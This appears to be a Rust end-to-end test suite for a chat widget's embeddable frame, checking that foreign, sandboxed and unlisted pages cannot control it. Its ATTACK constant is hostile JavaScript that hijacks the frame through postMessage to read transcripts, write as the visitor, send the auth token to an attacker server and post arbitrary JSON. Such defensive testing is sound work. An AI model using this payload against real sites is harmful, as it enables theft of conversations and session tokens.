//! The frame obeys nobody but the pages that its deployment lists. Each test plays what a hostile page would do with a
//! `frame.html` that it can load.

use std::collections::BTreeSet;

use pipit_e2e::{AgentAtDesk, Recorder, TestServer, Visitor, wait_for};
use serde_json::{Value, json};

const SHOP: &str = r#"<!doctype html><html lang="en"><body>
    <script src="/pipit/pipit.js" data-session-endpoint="/chat-session"></script></body></html>"#;

/// Puts the frame of another site into itself, hands it a port as the widget's own page would, and gives it orders. What
/// the frame sends is reported to `report`. The attack comes in the page's address, as JSON.
const ATTACK: &str = r##"<!doctype html><html lang="en"><body><script>
    const { address, report, options, answers, text } = JSON.parse(decodeURIComponent(location.search.slice(1)));
    const tell = (path, body) => fetch(report + path, { method: "POST", mode: "no-cors", body: JSON.stringify(body) });
    const frame = document.createElement("iframe");
    const orders = () => {
        const { port1, port2 } = new MessageChannel();
        const asked = { options, has: {}, mode: "page" };
        let last = 0;
        const call = (name, ...values) => port1.postMessage({ id: ++last, name, values });
        port1.onmessage = ({ data }) => tell("/obtained", data);
        frame.contentWindow.postMessage({ pipit: "n1", ...asked }, "*", [port2]);
        call("begin", asked);
        call("open");
        call(text ? "send" : "startChat", text ?? answers);
        setInterval(() => call("transcript"), 200);
    };
    let isRefused = false;
    addEventListener("message", ({ source, data }) => {
        if (source !== frame.contentWindow) return;
        isRefused ||= "refused" in data;
        tell("/offer", data);
        if ("runs" in data) orders();
    });
    // Without being asked, too; then it waits for what may come of it.
    frame.onload = () => { orders(); setTimeout(() => tell("/done", {}), isRefused ? 1000 : 5000); };
    frame.src = `${address}#n1`;
    document.body.append(frame);
</script></body></html>"##;

/// A page of the widget's own origin that shows content of strangers in a sandbox.
const SANDBOX: &str = r#"<!doctype html><html lang="en"><body><script>
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts";
    frame.src = "/attack.html" + location.search;
    document.body.append(frame);
</script></body></html>"#;

/// The widget's site, a visitor in conversation on it, and a server of the attacker's.
struct Scene {
    server: TestServer,
    shop: Recorder,
    attacker: Recorder,
    visitor: Visitor,
    agent: AgentAtDesk,
}

impl Scene {
    async fn set() -> Self {
        let server = TestServer::with_page("").await;
        let session = format!("{}/session", server.site());
        let shop = Recorder::start(&session).await;
        let attacker = Recorder::start(&session).await;
        shop.serve("/shop.html", SHOP);
        shop.serve("/sandbox.html", SANDBOX);
        for recorder in [&shop, &attacker] {
            recorder.serve("/attack.html", ATTACK);
        }
        let visitor = server.visitor().await;
        let page = format!("{}/shop.html", shop.origin());
        visitor.browser.open_page(&page).await;
        visitor.start_chat().await;
        let agent = server.agent().await;
        agent.accept().await;
        visitor.find(".avatar.here").await;
        agent.send_message("the code is 4471").await;
        visitor.wait_for_last_message("< the code is 4471").await;
        Self {
            server,
            shop,
            attacker,
            visitor,
            agent,
        }
    }

    /// Has the visitor meet the attack in a second window, and returns when its page has seen what came of it.
    async fn attack(&self, page: &str, attack: &Value) {
        let done = self.attacker.posted("/done").len();
        let query = self
            .visitor
            .browser
            .script(
                "return encodeURIComponent(arguments[0])",
                vec![json!(attack.to_string())],
            )
            .await;
        let query = query.as_str().unwrap_or_default();
        self.visitor
            .browser
            .open_page(&format!("{page}?{query}"))
            .await;
        wait_for("the end of the attack", || async {
            (self.attacker.posted("/done").len() > done).then_some(())
        })
        .await;
    }

    async fn end(self) {
        drop(self.server);
        self.agent.browser.close().await;
        self.visitor.browser.close().await;
    }
}

/// The attacks by their letters: the options that the frame is given, and what it is told to do.
fn attacks(attacker: &Recorder) -> [(&'static str, Value); 4] {
    let attacker_url = attacker.origin();
    [
        // Reads the live transcript from the visitor's other tab.
        (
            "a",
            json!({ "options": { "sessionEndpoint": "/chat-session" } }),
        ),
        // Writes as the visitor.
        (
            "b",
            json!({ "options": { "sessionEndpoint": "/chat-session" }, "text": "sent by a stranger" }),
        ),
        // Has the visitor's token fetched and sent to a server of the attacker's.
        (
            "c",
            json!({ "options": { "sessionEndpoint": "/chat-session", "baseUrl": attacker_url, "site": "c" } }),
        ),
        // Sends JSON of its choice to a path of the widget's origin.
        (
            "d",
            json!({ "options": { "sessionEndpoint": "/orders", "prefill": { "amount": 1 } } }),
        ),
    ]
}

/// What a hostile page obtained, by the letters of the attacks; and anything that came by the port.
async fn obtained(scene: &Scene) -> BTreeSet<&'static str> {
    let of_attacker = scene.attacker.requests();
    let of_shop = scene.shop.requests();
    let conversation = scene.agent.conversation().await;
    let found = [
        (
            "a",
            scene
                .attacker
                .posted("/obtained")
                .iter()
                .any(|body| body.contains("4471")),
        ),
        (
            "b",
            conversation.iter().any(|line| line.contains("stranger")),
        ),
        (
            "c",
            of_attacker
                .iter()
                .any(|request| request.header("authorization").is_some()),
        ),
        ("d", of_shop.iter().any(|request| request.path == "/orders")),
        ("a port", !scene.attacker.posted("/obtained").is_empty()),
        (
            "an offer",
            scene
                .attacker
                .posted("/offer")
                .iter()
                .any(|body| body.contains("runs")),
        ),
    ];
    found
        .into_iter()
        .filter_map(|(name, is)| is.then_some(name))
        .collect()
}

/// Plays all attacks from a page. An offer says no more than that the file is there, and is made where the browser does
/// not name the embedding page.
async fn nothing_is_obtained_by(page: impl Fn(&Scene) -> String) {
    let scene = Scene::set().await;
    let attacks = attacks(&scene.attacker);
    let sessions = scene.shop.posted("/chat-session").len();
    scene
        .visitor
        .browser
        .open_second_window("about:blank")
        .await;
    for (_, mut attack) in attacks {
        attack["address"] = json!(format!("{}/pipit/frame.html", scene.shop.origin()));
        attack["report"] = json!(scene.attacker.origin());
        scene.attack(&page(&scene), &attack).await;
    }
    let mut obtained = obtained(&scene).await;
    obtained.remove("an offer");
    assert_eq!(obtained, BTreeSet::new());
    assert_eq!(scene.shop.posted("/chat-session").len(), sessions);
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_foreign_origin_of_the_same_site_obtains_nothing() {
    nothing_is_obtained_by(|scene| format!("{}/attack.html", scene.attacker.origin())).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn another_site_obtains_nothing() {
    nothing_is_obtained_by(|scene| format!("{}/attack.html", scene.attacker.other_site())).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_sandboxed_frame_obtains_nothing() {
    nothing_is_obtained_by(|scene| format!("{}/sandbox.html", scene.shop.origin())).await;
}

/// A page of another origin whose policy lets no WebAssembly run, with the widget's files from the shop.
fn blog(shop: &Recorder) -> String {
    let origin = shop.origin();
    format!(
        r#"<!doctype html><html lang="en"><head>
        <meta http-equiv="Content-Security-Policy" content="script-src {origin} 'unsafe-inline'">
        </head><body><script src="{origin}/listed/pipit.js" data-session-endpoint="/chat-session"
            data-contact="tel:+123456"></script></body></html>"#
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn a_listed_page_has_its_conversation_in_the_frame_without_cookies_and_apart_from_other_tabs()
{
    let scene = Scene::set().await;
    let browser = &scene.visitor.browser;
    for blog_origin in [scene.attacker.origin(), scene.attacker.other_site()] {
        scene.shop.list(&blog_origin, "");
        scene.attacker.serve("/blog.html", &blog(&scene.shop));
        browser
            .open_second_window(&format!("{blog_origin}/blog.html"))
            .await;
        let before = scene.shop.requests().len();
        let send = "Pipit.send('from the blog').then(() => arguments[0](null), ({ code }) => arguments[0](code))";
        assert_eq!(browser.script_async(send, vec![]).await, Value::Null);
        let state = async || {
            browser
                .script("return Pipit.getState().state", vec![])
                .await
        };
        browser
            .wait_until_equal("the state", json!("queued"), state)
            .await;
        // The session is the page's; the frame asked for its own files only, and without cookies.
        let asked = scene.shop.requests().split_off(before);
        assert!(asked.iter().all(|it| it.method == "GET"), "{asked:?}");
        let fetched = asked.iter().filter(|it| it.path.ends_with(".wasm"));
        let with_cookies = fetched.filter(|it| it.header("cookie").is_some());
        assert_eq!(with_cookies.count(), 0);
        // The conversation of the shop's own tab is another one.
        let transcript = browser
            .script_async("Pipit.transcript().then(arguments[0])", vec![])
            .await;
        let transcript = transcript.to_string();
        assert!(transcript.contains("from the blog"), "{transcript}");
        assert!(!transcript.contains("4471"), "{transcript}");
    }
    let said = scene.agent.conversation().await;
    assert!(!said.concat().contains("blog"), "{said:?}");
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_is_not_listed_shows_the_other_ways_of_contact_and_what_to_do() {
    let scene = Scene::set().await;
    scene.attacker.serve("/blog.html", &blog(&scene.shop));
    let browser = &scene.visitor.browser;
    let page = format!("{}/blog.html", scene.attacker.origin());
    browser.open_second_window(&page).await;
    scene.visitor.open_panel().await;
    scene.visitor.part("contact").await;
    let doctor =
        "Pipit.doctor().then(found => arguments[0](found.find(it => it.check === 'frame').fix))";
    let fix = browser.script_async(doctor, vec![]).await;
    let expected = format!(
        "Build the widget's files with: cargo xtask bundle --frame-origins {}",
        scene.attacker.origin()
    );
    assert_eq!(fix, json!(expected));
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_doctor_misses_frame_ancestors() {
    let scene = Scene::set().await;
    let doctor =
        "Pipit.doctor().then(found => arguments[0](found.find(it => it.check === 'frame')))";
    let found = scene.visitor.browser.script_async(doctor, vec![]).await;
    let expected = json!({
        "check": "frame",
        "isFine": false,
        "message": "frame.html comes without `frame-ancestors`, so every site may show it.",
        "fix": "Its server has to send Content-Security-Policy: frame-ancestors 'self'",
    });
    assert_eq!(found, expected);
    scene.end().await;
}

/// A chat server that the embedding page names has to be listed by the deployment.
#[tokio::test(flavor = "multi_thread")]
async fn a_listed_page_names_only_listed_chat_servers() {
    let scene = Scene::set().await;
    let blog_origin = scene.attacker.origin();
    let browser = &scene.visitor.browser;
    browser.open_second_window("about:blank").await;
    let chat_server = scene.server.api();
    let page = blog(&scene.shop).replace(
        "data-contact",
        &format!("data-base-url='{chat_server}' data-contact"),
    );
    scene.attacker.serve("/blog.html", &page);
    for (listed, expected) in [("", json!("E_OPTION")), (&*chat_server, Value::Null)] {
        scene.shop.list(&blog_origin, listed);
        browser.open_page(&format!("{blog_origin}/blog.html")).await;
        let open =
            "Pipit.startChat().then(() => arguments[0](null), ({ code }) => arguments[0](code))";
        assert_eq!(
            browser.script_async(open, vec![]).await,
            expected,
            "{listed}"
        );
    }
    scene.end().await;
}
